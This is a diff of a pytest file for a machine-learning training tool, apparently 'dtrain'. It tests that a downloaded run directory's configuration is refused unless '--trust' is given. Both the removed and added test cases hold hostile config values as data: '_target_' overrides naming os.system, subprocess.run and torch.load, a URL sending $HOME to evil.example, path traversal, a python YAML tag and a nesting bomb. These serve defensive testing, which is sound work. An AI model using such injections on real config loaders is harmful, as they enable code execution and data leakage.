@@ -1,15 +1,18 @@
+"""Nothing of a run directory is composed that this user did not write, unless ``--trust`` is typed."""
+
 from __future__ import annotations
 
 import shutil
 from collections.abc import Sequence
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
 from dtrain.config.errors import ConfigError
-from dtrain.config.run import Run, recompose
-from dtrain.config.trust import is_known, is_marked, mark
+from dtrain.config.run import Run, recompose, recompose_if_run, with_trust
+from dtrain.config.trust import content_with_folders, is_marked, mark, require_harmless
 from dtrain.tracking.run_dir import save_run
 from tests.config.command_lines import compose
 from tests.refusals import refused
@@ -23,85 +26,35 @@ def downloaded(folder: Path, *overrides: str, config_dirs: Sequence[str] = ()) -
     return f"run.dir={folder}"
 
 
-@pytest.mark.parametrize(
-    ("override", "key", "got"),
-    [
-        ("data.prepare={_target_:torch.load,f:x.pt,weights_only:false}", "data.prepare._target_", "torch.load"),
-        ("data.prepare._target_=torch.load", "data.prepare._target_", "torch.load"),
-        ("+train.hooks=[{_target_:subprocess.run,args:[ls]}]", "train.hooks[0]._target_", "subprocess.run"),
-        ("task={_target_:dtrain.deployment.artefact.load,folder:x}", "task._target_", "artefact.load"),
-        ("model._target_=dtrain.models.mlp.torch.load", "model._target_", "dtrain.models.mlp.torch.load"),
-        ("+model.a={_target_:torch.nn.modules.module.torch.hub.load}", "model.a._target_", "torch.hub.load"),
-        ("task._target_=${vars.x}", "task._target_", "${vars.x}"),
-        ("vars={x:{_target_:os.system}}", "vars.x._target_", "os.system"),
-        ("data.prepare=${oc.decode:'{_target_: os.system}'}", "data.prepare", "oc.decode"),
-        ("data.eval='https://evil.example/${oc.env:HOME}/x.tar'", "data.eval", "oc.env"),
-        ("data.eval='https://evil.example/${${vars.x}:HOME}/x.tar'", "data.eval", "HOME"),
-        ("+hydra.callbacks.x._target_=subprocess.run", "hydra.callbacks", "subprocess.run"),
-        ("hydra/launcher=basic", "hydra/launcher", "basic"),
-        ("task={_target_:dtrain.data.digits.prepare,directory:/x}", "task._target_", "dtrain.data.digits.prepare"),
-        ("data.fields.png.decoder=os.system", "data.fields.png.decoder", "os.system"),
-        ("vars={f:{name:image,decoder:os.system}}", "vars.f.decoder", "os.system"),
-        ("data={cache:{dir:/tmp/evil}}", "data", "/tmp/evil"),
-        ("data@vars={cache:{dir:/tmp/evil}}", "data@vars", "/tmp/evil"),
-        ("+data.prepare.directory=/tmp/evil", "data.prepare", "/tmp/evil"),
-        ("data.prepare=${vars.x}", "data.prepare", "${vars.x}"),
-        ("vars={x:{prepare:{_args_:[/tmp/evil]}}}", "data.prepare", "/tmp/evil"),
-        ("task=../../../../tmp/evil", "task", "../../../../tmp/evil"),
-        ("task/../../evil=x", "task/../../evil", "x"),
-        ("+task@data.prepare=[classification,/tmp/evil]", "task", "/tmp/evil"),
-        ("+a.b@data.prepare=/tmp/evil", "a.b", "/tmp/evil"),
-        ("run.seed=1,2", "run.seed", "1,2"),
-        ("--config-dir=/tmp/evil", "--config-dir", "/tmp/evil"),
-    ],
-)
-def test_a_run_of_somebody_else_cannot_name_other_code(tmp_path: Path, override: str, key: str, got: str) -> None:
+@pytest.mark.parametrize("override", ["optimizer.lr=0.5", "task._target_=os.system", "vars.a='$'"])
+def test_a_run_of_somebody_else_needs_trust_whatever_it_says(tmp_path: Path, override: str) -> None:
     argument = downloaded(tmp_path, override)
-    with refused(ConfigError, key, got, "--trust", tmp_path):
-        recompose([argument])
+    for typed in ([argument], [argument, "task._target_=my.Task"]):
+        with refused(ConfigError, "run.dir", tmp_path, "--trust", "DTRAIN_CACHE"):
+            recompose(typed)
+        with refused(ConfigError, "run.dir", tmp_path, "--trust"):
+            recompose_if_run(typed)
+        with refused(ConfigError, "run.dir", tmp_path, "--trust"):
+            with_trust(typed)
     assert override in recompose([argument, "--trust"])
-    assert "--trust" not in recompose([argument, "--trust"])
 
 
-def test_a_run_of_somebody_else_cannot_bring_its_own_presets(tmp_path: Path) -> None:
-    argument = downloaded(tmp_path, config_dirs=["/tmp/evil"])
-    with refused(ConfigError, "/tmp/evil", remedy="--trust"):
-        recompose([argument])
-    assert "/tmp/evil" in recompose([argument, "--trust"])
+def test_a_process_that_was_trusted_hands_it_on(tmp_path: Path) -> None:
+    argument = downloaded(tmp_path / "foreign")
+    assert with_trust([argument, "--trust"]) == [argument, "--trust"]
+    save_run(Run.of(compose("experiment=digits", f"run.dir={tmp_path / 'mine'}")))
+    assert with_trust([f"run.dir={tmp_path / 'mine'}"]) == [f"run.dir={tmp_path / 'mine'}", "--trust"]
+    # Of a command that chooses what to train, nothing of the directory is composed.
+    assert with_trust(["experiment=digits", argument]) == ["experiment=digits", argument]
+    assert recompose_if_run(["experiment=digits", argument, "--trust"]) == ["experiment=digits", argument]
 
 
 def test_a_run_of_somebody_else_cannot_lead_writes_to_files_of_this_user(tmp_path: Path) -> None:
     argument = downloaded(tmp_path / "run")
     (tmp_path / "run" / "checkpoints").symlink_to(tmp_path / "mine")
     with refused(ConfigError, "checkpoints", tmp_path / "mine", "--trust"):
-        recompose([argument])
-    assert recompose([argument, "--trust"])
-
-
-def test_a_key_that_is_typed_replaces_the_refused_one(tmp_path: Path) -> None:
-    argument = downloaded(tmp_path, "task._target_=os.system")
-    assert "task._target_=my.Task" in recompose([argument, "task._target_=my.Task"])
-
-
-def test_a_run_of_somebody_else_neither_writes_nor_runs_anything(tmp_path: Path) -> None:
-    harmless = [
-        "optimizer.lr=0.5",
-        "vars={lr:1}",
-        "train.max_steps=5",
-        "data.eval='../x-{00..09}.tar'",
-        "data.prepare=null",
-        "precision=bf16",
-    ]
-    dropped = ["export.out=/home/me", "launch=slurm", "launch.setup=[rm]", "tracker=wandb", "data.cache.dir=/home/me"]
-    composed = recompose([downloaded(tmp_path, *harmless, *dropped)])
-    assert set(harmless) <= {*composed}
-    assert not {*dropped} & {*composed}
-
-
-def test_presets_are_composed_without_trust(tmp_path: Path) -> None:
-    presets = ["experiment=cifar10", "model=vit", "optimizer=muon", "data=cifar10"]
-    for preset in presets:
-        assert preset in recompose([downloaded(tmp_path, preset)])
+        recompose_if_run(["experiment=digits", argument])
+    assert recompose_if_run(["experiment=digits", argument, "--trust"]) == ["experiment=digits", argument]
 
 
 def test_a_run_that_this_user_started_is_trusted_until_its_command_line_changes(tmp_path: Path) -> None:
@@ -113,27 +66,89 @@ def test_a_run_that_this_user_started_is_trusted_until_its_command_line_changes(
     assert recompose([f"run.dir={tmp_path / 'moved'}"])
     path = tmp_path / "moved" / "overrides.yaml"
     path.write_text(path.read_text().replace("my.Hook", "os.system"))
-    with refused(ConfigError, "train.hooks[0]._target_", "os.system", "--trust"):
+    with refused(ConfigError, "run.dir", path.parent, "--trust"):
         recompose([f"run.dir={tmp_path / 'moved'}"])
 
 
-def test_known_targets() -> None:
-    known = ["torch.nn.Linear", "torch.optim.SGD", "dtrain.models.ResNet9", "dtrain.data.digits.arrays"]
-    known += ["dtrain.data.color_jitter.ColorJitter", "dtrain.tasks.Classification"]
-    assert [target for target in known if not is_known(target)] == []
-    other = ["torch.load", "torch.nn.Module.load_state_dict", "torch.nn.modules.torch.load", "dtrain.export.main"]
-    other += ["torch.nn.modules.module.OrderedDict"]  # a class, but of another package
-    other += ["dtrain.data.digits.prepare"]
-    assert [target for target in other if is_known(target)] == []
+def test_a_mark_covers_the_presets_in_the_run_directory(tmp_path: Path) -> None:
+    preset = tmp_path / "run" / "presets" / "0" / "model" / "mine.yaml"
+    preset.parent.mkdir(parents=True)
+    preset.write_text("_target_: dtrain.models.MLP\n")
+    folder = str(preset.parents[1])
+    save_run(Run.of(compose("--config-dir", folder, "experiment=digits", f"run.dir={tmp_path / 'run'}")))
+    argument = f"run.dir={tmp_path / 'run'}"
+    assert folder in recompose([argument])
+    preset.write_text("_target_: os.system\n")
+    with refused(ConfigError, "run.dir", tmp_path / "run", "--trust"):
+        recompose([argument])
+
+
+def test_contents_of_several_files_cannot_be_divided_in_another_way(tmp_path: Path) -> None:
+    for name, text in {"1/a": "xy", "1/b": "z", "2/a": "x", "2/b": "yz"}.items():
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text(text)
+    assert content_with_folders(b"c", []) == b"c"
+    assert content_with_folders(b"c", [tmp_path / "1"]) != content_with_folders(b"c", [tmp_path / "2"])
+
+
+@pytest.mark.parametrize(
+    ("content", "names"),
+    [
+        (b"overrides: [" + b"[" * 50_000, ["nested"]),
+        (b"a: &i [1]\noverrides: *i\nconfig_dirs: []", ["aliases"]),
+        (b"overrides: [{a: b}]\nconfig_dirs: []", ["overrides", "texts"]),
+        (b"overrides: []\nconfig_dirs: [1]", ["config_dirs", "texts"]),
+        (b"overrides: ['" + b"a" * (5 << 20) + b"']\nconfig_dirs: []", ["bytes"]),
+        (b"overrides: !!python/name:os.system\nconfig_dirs: []", ["tags"]),
+        (b"overrides: 2024-02-31", ["not valid YAML"]),
+        (b"\xff", ["not valid YAML"]),
+    ],
+    ids=["brackets", "aliases", "mapping", "number", "large", "tag", "date", "bytes"],
+)
+def test_a_saved_command_line_that_dtrain_did_not_write_is_one_message(
+    tmp_path: Path, content: bytes, names: list[str]
+) -> None:
+    (tmp_path / "overrides.yaml").write_bytes(content)
+    with refused(ConfigError, tmp_path / "overrides.yaml", *names, "another run.dir"):
+        recompose([f"run.dir={tmp_path}", "--trust"])
+
+
+@pytest.mark.parametrize(
+    ("node", "names"),
+    [
+        ({"_target_": "torch.load"}, ["model._target_", "torch.load"]),
+        ({"_target_": "torch.nn.Linear", "a": [{"_target_": "os.system"}]}, ["model.a[0]._target_", "os.system"]),
+        ({"_target_": "torch.nn.modules.torch.load"}, ["torch.nn.modules.torch.load"]),
+        ({"_target_": "torch.nn.modules.module.OrderedDict"}, ["OrderedDict"]),
+        ({"_target_": "torch.nn.Module.load_state_dict"}, ["load_state_dict"]),
+        ({"_target_": "dtrain.data.writer.ShardWriter", "pattern": "/home/me"}, ["ShardWriter"]),
+        ({"_target_": "dtrain.export.main"}, ["dtrain.export.main"]),
+        ({"_target_": "sentence_transformers.SentenceTransformer"}, ["sentence_transformers"]),
+        ({"fields": {"png": {"decoder": "os.system"}}}, ["model.fields.png.decoder", "os.system"]),
+        ({"a": "${oc.env:HOME}"}, ["model.a", "${oc.env:HOME}"]),
+        ({"${oc.env:HOME}": 1}, ["${oc.env:HOME}"]),
+    ],
+    ids=str,
+)
+def test_of_an_artefact_of_somebody_else_only_known_classes_are_built(
+    tmp_path: Path, node: dict[str, Any], names: list[str]
+) -> None:
+    with refused(ConfigError, tmp_path, *names, "--trust"):
+        require_harmless(node, tmp_path, "model")
+
+
+def test_classes_of_torch_and_dtrain_need_no_trust(tmp_path: Path) -> None:
+    for target in ("torch.nn.Linear", "torch.optim.SGD", "dtrain.models.ResNet9", "dtrain.tasks.Classification"):
+        require_harmless({"_target_": target, "width": 3, "decoder": None, "names": ["a", 1.5]}, tmp_path, "model")
 
 
 def test_marks_need_a_cache_that_can_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    file = tmp_path / "overrides.yaml"
-    file.write_text("{}")
-    mark(file.read_bytes(), "started")
-    assert is_marked(file, "started")
-    assert not is_marked(file, "other")
-    (tmp_path / "cache").write_text("a file")
-    monkeypatch.setenv("DTRAIN_CACHE", str(tmp_path / "cache"))
-    mark(file.read_bytes(), "started")
-    assert not is_marked(file, "started")
+    content = b"overrides: []"
+    assert not is_marked(content, "started")
+    mark(content, "started")
+    assert is_marked(content, "started")
+    assert not is_marked(content, "exported")
+    (tmp_path / "file").touch()
+    monkeypatch.setenv("DTRAIN_CACHE", str(tmp_path / "file" / "cache"))
+    mark(content, "started")
+    assert not is_marked(content, "started")
